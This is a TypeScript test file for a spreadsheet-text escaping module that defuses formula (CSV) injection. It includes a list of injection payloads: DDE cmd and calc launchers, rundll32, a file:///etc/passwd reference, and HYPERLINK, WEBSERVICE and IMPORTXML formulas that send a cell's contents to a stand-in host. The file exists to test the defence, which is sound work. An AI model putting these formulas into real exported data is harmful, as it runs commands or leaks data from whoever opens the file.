import fc from 'fast-check';
import { describe, expect, it, test } from 'vitest';
import { defuse, isLoneApostrophe, isTextOf, undoDefuse } from '../../src/text/spreadsheet-text.ts';

const payloads = [
  '=1+1',
  '=cmd|"/C calc"!A0',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://x.example?q="&A1,"look")',
  '=WEBSERVICE("https://x.example/"&A1)',
  '=IMPORTXML(CONCAT("https://x.example/?",A1),"//a")',
  '=IMPORTDATA("https://x.example")',
  '=IMAGE("https://x.example/"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  '=rundll32|"URL.dll,OpenURL x"!A',
  "='file:///etc/passwd'#$passwd.A1",
  '=@SUM(1)',
  '==1',
  '=',
  '+1+1',
  '+cmd|"/C calc"!A0',
  '+=1',
  '-1+1',
  '-cmd|"/C calc"!A0',
  '-5',
  '-2+3+cmd|"/C calc"!D2',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '@A1',
  '|cmd',
  '%0A=1+1',
  ' =1+1',
  '   +1',
  '\t=1+1',
  '\tplain',
  '\r=1+1',
  '\rplain',
  '\n=1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  'harmless\n=1+1',
  'harmless\r\n@SUM(1)',
  'harmless\r -1',
  'harmless\n\n=1',
  'harmless;=1+1',
  'harmless\t@SUM(1)',
  'harmless;-2+3+cmd|"/C calc"!D2',
  'harmless; "=1+1"',
  '\u200b=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "'=1+1",
  "''=1+1",
] as const;

describe('a cell that a spreadsheet would run', () => {
  it.each(payloads)('begins with an apostrophe: %j', (cell) => {
    expect(defuse(cell)).toMatch(/^'/);
    expect(undoDefuse(defuse(cell))).toBe(cell);
  });

  it('has an apostrophe before each of its formulas', () => {
    expect(defuse('=1')).toBe("'=1");
    expect(defuse('sum\r\n=1\n\n -1')).toBe("'sum\r\n'=1\n\n' -1");
    expect(defuse('a;=1;b\t+f(x)')).toBe("'a;'=1;b\t'+f(x)");
  });
});

test.each([
  '',
  'What is 1 + 1?',
  'a=b',
  '2-1',
  'x@y.example',
  '50 %',
  "it's",
  "'quoted'",
  "'",
  'two\nlines',
  'a\tb',
  '$x = 1$',
  '\\frac{-1}{2}',
  '求 x+1=2 的解',
  '"=1"',
  '[0;+\u221e)',
  'the point (1;-2)',
  "'Tis the question",
])('a cell that it would only show is left alone, both ways: %j', (cell) => {
  expect(defuse(cell)).toBe(cell);
  expect(undoDefuse(cell)).toBe(cell);
});

test('an apostrophe of the user stays, also where a line begins with a sign', () => {
  for (const cell of ["'Tis it:\n- one\n- two", "which?\n'+' or '-'", "x;'=' or '+'"])
    expect(undoDefuse(cell)).toBe(cell);
});

test.each(['\t', ';', '\n', ' ', "'", '"', ';-'])('a megabyte of %j is done in one pass', (letter) => {
  const cell = letter.repeat(2 ** 20);
  expect(undoDefuse(defuse(cell))).toBe(cell);
});

test('a mended cell is read as the user means it: the apostrophe that was put before a formula is not part of it', () => {
  expect(undoDefuse("'=x^2 + 1 = 0")).toBe('=x^2 + 1 = 0');
  expect(undoDefuse('=x^2 + 1 = 0')).toBe('=x^2 + 1 = 0');
});

describe('every cell', () => {
  const cell = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.string({
      unit: fc.constantFrom(
        "'",
        '=',
        '+',
        '-',
        '@',
        '|',
        '%',
        ' ',
        '\t',
        '\r',
        '\n',
        '＝',
        '\ufeff',
        'a',
        ';',
        '"',
        '(',
      ),
    }),
  );

  it('comes back as it was', () => {
    fc.assert(
      fc.property(cell, (text) => {
        expect(undoDefuse(defuse(text))).toBe(text);
      }),
      { numRuns: 2_000 },
    );
  });

  it('is harmless: what is written never begins with a sign that starts a formula', () => {
    fc.assert(
      fc.property(cell, (text) => {
        expect(defuse(text)).not.toMatch(/(?:^|[\n\r])[^\S\n\r]*[=+\-@|%＝＋－＠]|^[\t\r]|[;\t]"?[=@]/u);
      }),
      { numRuns: 2_000 },
    );
  });
});

test("a ' is alone where no other one closes it", () => {
  for (const cell of ["'=x", " '-5 + 3", "'Tis"]) expect(isLoneApostrophe(cell), cell).toBe(true);
  for (const cell of ["'=' or '=='", "x'", '', "''", '=x']) expect(isLoneApostrophe(cell), cell).toBe(false);
});

test.each([
  ['a\nb ', 'a\r\nb', true],
  ['one\ttwo…', 'one\n two three', true],
  ['one two…', 'one twelve', false],
  ['one', 'two', false],
])('a table that has %j shows the text %j: %s', (shown, text, is) => {
  expect(isTextOf(shown, text)).toBe(is);
});
